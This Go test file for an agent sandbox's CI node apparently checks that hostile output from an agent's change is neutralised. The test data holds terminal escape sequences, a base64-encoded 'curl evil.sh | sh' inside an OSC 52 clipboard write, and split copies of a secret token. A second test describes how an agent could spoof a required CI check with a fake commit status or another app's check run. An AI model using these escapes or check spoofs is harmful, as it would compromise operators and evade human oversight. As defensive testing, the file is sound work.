package ci

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/sandgate/sandgate/blueprint"
	"github.com/sandgate/sandgate/internal/ghfake"
	"github.com/sandgate/sandgate/nodes/internal/gitremote"
	"github.com/sandgate/sandgate/nodes/internal/hostile"
	"github.com/sandgate/sandgate/runtime"
	"github.com/sandgate/sandgate/secrets"
)

// ciAttackRun waits on the double like the node does, with the token in
// the harness's environment and its redactor, and returns the node's
// result.
func ciAttackRun(t *testing.T, gh *ghfake.Server, budget time.Duration, cfg CIConfig) *runtime.Result {
	t.Helper()
	t.Setenv("SANDGATE_TEST_CI_TOKEN", hostile.Token)
	cfg.Provider, cfg.Poll, cfg.BaseURL, cfg.TokenEnv = "github", 10*time.Second, gh.API.URL, "SANDGATE_TEST_CI_TOKEN"
	c := &CI{clock: &fakeClock{now: time.Now()}, allowed: []string{gh.API.URL}, cfg: cfg}
	in := &runtime.Input{Spec: &blueprint.Node{},
		Redactor: secrets.FromEnv([]string{"SANDGATE_TEST_CI_TOKEN=" + hostile.Token}, "SANDGATE_TEST_CI_TOKEN")}
	push := &gitremote.PushedBranch{Remote: "https://github.com/octo/calc.git", Ref: "refs/heads/fix/add", Commit: pollSHA}
	v, err := c.github(context.Background(), in, push, budget)
	if err != nil {
		t.Fatal(err)
	}
	return v.result(in, push, "the pushed commit")
}

// TestAttackCIFeedbackCarriesEscapesAndTheToken: the agent's change names
// a CI job with an OSC 52 (write the operator's clipboard) and makes its
// log print terminal escapes and the harness's token: whole, split by an
// escape sequence, and over and over so that cutting the log to its
// bound lands inside one. Nothing unprintable and no part of the token
// may reach the feedback, the reason or the outputs; a 20 MiB log still
// yields bounded feedback.
func TestAttackCIFeedbackCarriesEscapesAndTheToken(t *testing.T) {
	gh := ghfake.New(hostile.Token, "octo/calc")
	defer gh.Close()
	evil := "build\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\u202e"
	var log strings.Builder
	log.WriteString("token " + hostile.Token[:10] + "\x1b[0m" + hostile.Token[10:] + "\n")
	log.WriteString("2024-05-04T01:20:52.1Z \x1b[?1049h\x1b]0;pwned\x07ok\r\x9b2J\x1b[31mFAIL\x1b[0m\x08\x08\x7f\n")
	gh.Set(func(s *ghfake.Server) {
		s.JobLogs[7] = log.String()
		s.JobLogs[8] = strings.Repeat("x", 20<<20) + "\n" + hostile.Token + "\n"
		// One long last line of tokens: cutting it to the bound lands
		// inside one.
		s.JobLogs[9] = strings.Repeat(hostile.Token+" ", 400) + "\n"
		s.Script = func(string, int) ghfake.Answer {
			return ghfake.Answer{Runs: []ghfake.Run{
				{ID: 1, Name: evil, Status: "completed", Conclusion: "failure", JobID: 7, Summary: "\x1b]8;;http://evil/\x07click\x1b]8;;\x07"},
				{ID: 2, Name: "huge", Status: "completed", Conclusion: "failure", JobID: 8},
				{ID: 3, Name: "tokens", Status: "completed", Conclusion: "failure", JobID: 9},
			}}
		}
	})
	res := ciAttackRun(t, gh, time.Hour, CIConfig{})
	t.Logf("reason %q\nfeedback (%d bytes):\n%s", res.Reason, len(res.Feedback), res.Feedback)
	texts := map[string]string{"feedback": res.Feedback, "reason": res.Reason, "outputs": fmt.Sprint(res.Outputs)}
	for what, s := range texts {
		if r, bad := hostile.Unprintable(s); bad {
			t.Errorf("%s holds %U, which a terminal acts on", what, r)
		}
		for i := 0; i+8 <= len(hostile.Token); i++ {
			if strings.Contains(s, hostile.Token[i:i+8]) {
				t.Errorf("%s holds %q, part of the token", what, hostile.Token[i:i+8])
				break
			}
		}
	}
	if !strings.Contains(res.Feedback, "[redacted SANDGATE_TEST_CI_TOKEN]") || !strings.Contains(res.Feedback, "FAIL") {
		t.Errorf("feedback lost the log's text along with its escapes")
	}
	if len(res.Feedback) > ciFeedbackBytes+1024 {
		t.Errorf("feedback is %d bytes, over its bound", len(res.Feedback))
	}
	for _, a := range gh.LogAuth() {
		if a != "" {
			t.Errorf("the log host received credentials %q", a)
		}
	}
}

// TestAttackCISpoofedRequiredCheck: the branch protection requires
// "build" from GitHub Actions (app_id 15368). The agent's change drops the
// real job and adds a workflow step that sets a commit status "build":
// success, or another app reports a check run named "build". Neither is
// the required check; CI must not pass on them.
func TestAttackCISpoofedRequiredCheck(t *testing.T) {
	spoofs := []ghfake.Run{{ID: 9, Name: "build", Status: "completed", Conclusion: "success", AppID: 99}}
	real := func(conclusion string) ghfake.Run {
		return ghfake.Run{ID: 3, Name: "build", Status: "completed", Conclusion: conclusion, JobID: 3}
	}
	status := []ghfake.Status{{Context: "build", State: "success"}}
	cases := []struct {
		name     string
		pinned   bool
		runs     []ghfake.Run
		statuses []ghfake.Status
		want     string
	}{
		{"a commit status named like the check", true, nil, status, ciTimedOut},
		{"a check run from another app", true, spoofs, nil, ciTimedOut},
		{"a later spoof beside the real check failing", true, append(spoofs, real("failure")), status, ciFailure},
		// Without an app in the protection any source counts, but a later
		// run of another app never hides the real one's failure.
		{"unpinned: a later spoof beside the real check failing", false, append(spoofs, real("failure")), status, ciFailure},
		{"the real check passing", true, []ghfake.Run{real("success")}, nil, ciSuccess},
		{"unpinned: a re-run of the same app passing", false, []ghfake.Run{real("failure"), {ID: 4, Name: "build", Status: "completed", Conclusion: "success", JobID: 4}}, nil, ciSuccess},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			gh := ghfake.New(hostile.Token, "octo/calc")
			defer gh.Close()
			gh.Set(func(s *ghfake.Server) {
				s.Required = []string{"build"}
				if c.pinned {
					s.RequiredApps = map[string]int64{"build": 15368}
				}
				s.JobLogs[3] = "FAIL TestAdd\n"
				s.Script = func(string, int) ghfake.Answer { return ghfake.Answer{Runs: c.runs, Statuses: c.statuses} }
			})
			res := ciAttackRun(t, gh, 5*time.Minute, CIConfig{})
			if got := res.Outputs["state"]; got != c.want {
				t.Fatalf("state %v, want %s (%s)", got, c.want, res.Feedback)
			}
		})
	}
}
